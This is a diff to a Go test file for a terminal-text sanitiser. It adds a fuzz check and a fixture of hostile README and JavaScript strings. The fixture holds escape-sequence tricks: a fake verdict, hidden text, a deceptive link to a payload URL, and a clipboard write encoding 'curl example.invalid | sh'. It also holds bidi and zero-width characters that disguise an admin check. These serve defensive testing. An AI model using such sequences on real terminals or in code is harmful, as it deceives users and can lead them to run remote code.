@@ -8,6 +8,7 @@ import (
 	"unicode"
 	"unicode/utf8"
 
+	"github.com/charmbracelet/x/ansi"
 	"github.com/rivo/uniseg"
 )
 
@@ -197,7 +198,8 @@ func TestScan(t *testing.T) {
 		want Findings
 	}{
 		{"plain\ttext\n", Findings{}},
-		{"\x1b[2J\r\x07\x7f", Findings{Control: 4, Escapes: 1}},
+		{"\x1b[2J\r\x07\x7f", Findings{Control: 4, Escapes: 1, LoneCR: 1}},
+		{"a\r\nb\r", Findings{Control: 2, LoneCR: 1}},
 		{"\u009b\u0085", Findings{Control: 2, Escapes: 1}},
 		{"\x9b\xff", Findings{Invalid: 2, Escapes: 1}},
 		{"\u202e\u2066\u2069", Findings{Bidi: 3}},
@@ -318,5 +320,60 @@ func FuzzString(f *testing.F) {
 		if strings.Contains(ExpandTabs(s, 4), "\t") {
 			t.Fatalf("ExpandTabs left a tab in %q", s)
 		}
+		assertInert(t, out)
+		assertInert(t, line)
 	})
+}
+
+// assertInert decodes out the way a terminal would (charmbracelet's VT
+// parser) and fails on anything but printable text, tabs and newlines.
+func assertInert(t testing.TB, out string) {
+	t.Helper()
+	p := ansi.NewParser()
+	var state byte
+	for rest := out; rest != ""; {
+		seq, _, n, st := ansi.DecodeSequence(rest, state, p)
+		state = st
+		r, size := utf8.DecodeRuneInString(seq)
+		control := (r < 0x20 && r != '\t' && r != '\n') || (r >= 0x7f && r <= 0x9f) || (r == utf8.RuneError && size <= 1)
+		if control || (len(seq) > 1 && (r == '\t' || r == '\n')) {
+			t.Fatalf("terminal would interpret %q in %q", seq, out)
+		}
+		rest = rest[n:]
+	}
+}
+
+// TestHostileViewerFixture is fixture 5's README and util.js: rendered,
+// they must reach the terminal as inert text with every trick visible.
+func TestHostileViewerFixture(t *testing.T) {
+	readme := "# fx-hostile-viewer\n" +
+		"\x1b[2J\x1b[H0 findings\n" + // clear screen, home, fake verdict
+		"visible\x1b[8mconcealed backdoor\x1b[0m\n" +
+		"\x1b]0;npm install ok\x07\n" + // window title
+		"\x1b]8;;http://203.0.113.7/payload\x1b\\docs\x1b]8;;\x1b\\\n" + // deceptive link
+		"\x1b]52;c;Y3VybCBleGFtcGxlLmludmFsaWQgfCBzaA==\x07\n" + // clipboard write
+		"safe text\b\b\b\b\b\b\b\b\bmalicious\n" +
+		"\u009b2J\u009d0;t\u009c\x9b2J\n" + // 8-bit CSI/OSC, as a rune and as a raw byte
+		"\x1b[31m- removed\x1b[32m+ added\x1b[0m\r+ overwritten\n"
+	util := "// \u202e } \u2066 if (isAdmin) \u2069 \u2066 begin admin only\nconst is\u200dAdmin = false;\n"
+	for name, text := range map[string]string{"README.md": readme, "util.js": util} {
+		out := String(text)
+		assertSafe(t, out, true)
+		assertInert(t, out)
+		line, _ := Line(text, 300)
+		assertInert(t, line)
+		if f := Scan(text); f.Total() == 0 {
+			t.Errorf("%s: Scan found nothing", name)
+		}
+	}
+	if f := Scan(util); f.Bidi != 4 || f.ZeroWidth != 1 {
+		t.Errorf("util.js findings %+v", f)
+	}
+	if f := Scan(readme); f.Escapes != 16 || f.LoneCR != 1 || f.Invalid != 1 {
+		t.Errorf("README findings %+v", f)
+	}
+	name := "evil\x1b[2J\nname.js"
+	if out, _ := Line(name, 80); out != "evil␛[2J␊name.js" {
+		t.Errorf("file name rendered %q", out)
+	}
 }
